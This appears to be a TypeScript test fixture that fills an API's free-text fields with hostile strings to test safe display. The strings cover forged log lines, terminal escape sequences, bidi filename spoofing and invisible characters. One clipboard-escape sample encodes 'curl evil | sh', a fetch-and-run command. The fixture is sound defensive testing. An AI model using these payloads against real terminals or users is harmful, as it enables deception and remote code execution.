// Answers of the API in which every text that the contract leaves open is hostile: as if machines had supplied all of it.

import { COMPONENTS } from '../../appliance/contract/schemas/components.ts';

/** What a machine may put into its serial number, a sensor's name or a step message in order to deceive whoever reads it. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a forged line after CR LF': 'x\r\nFORGED lifecycle.ready: node01 is ready',
  'a forged line after NEL and U+2028': 'x\u0085FORGED\u2028FORGED\u2029FORGED',
  'a carriage return over the line': 'x\rFORGED',
  'the clipboard (OSC 52)': 'x\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
  'the window title (OSC 0)': 'x\u001b]0;all is well\u001b\\',
  'C1 controls': 'x\u009b2J\u009d52;c;ZXZpbA==\u009c\u0090q\u009c',
  'colours and the cursor': 'x\u001b[8m\u001b[1A\u001b[2K\u001b[31mFORGED\u001b[0m',
  'bidi overrides and isolates': 'x\u202egpj.exe\u202c \u2066\u2067\u2068\u2069 \u200e\u200f\u061c',
  'invisible characters': 'ad\u200bmin\u2060\ufeff\u0000\u0008\u007f',
  'a very long text': `x${'y'.repeat(5000)}`,
};

interface Schema {
  readonly $ref?: string;
  readonly type?: string;
  readonly const?: unknown;
  readonly enum?: readonly unknown[];
  readonly pattern?: string;
  readonly format?: string;
  readonly anyOf?: readonly Schema[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly patternProperties?: Readonly<Record<string, Schema>>;
  readonly additionalProperties?: Schema | boolean;
  readonly items?: Schema;
}

const BY_ID = new Map(COMPONENTS.map(({ schema, $id }) => [`${$id}#`, schema as Schema]));

/** A value of the schema with this text in every place that takes any text. */
export function sampleOf(schema: object, text: string): unknown {
  const { $ref, type, anyOf, properties, patternProperties, additionalProperties, items, ...rest } = schema as Schema;
  if ($ref !== undefined) return sampleOf(BY_ID.get($ref) ?? {}, text);
  if ('const' in rest) return rest.const;
  if (rest.enum) return rest.enum[0];
  const [first] = anyOf ?? [];
  if (first) return sampleOf(first, text);
  if (properties) {
    return Object.fromEntries(Object.entries(properties).map(([name, field]) => [name, sampleOf(field, text)]));
  }
  if (type === 'array') return [sampleOf(items ?? {}, text)];
  if (type === 'object') {
    const [value] = Object.values(patternProperties ?? {});
    const open = typeof additionalProperties === 'object' ? additionalProperties : {};
    return { [text]: sampleOf(value ?? open, text) };
  }
  if (type === 'string') return rest.format === 'date-time' ? '2030-01-01T00:00:00.000Z' : text;
  if (type === 'integer' || type === 'number') return 1;
  if (type === 'boolean') return true;
  if (type === 'null') return null;
  return text;
}
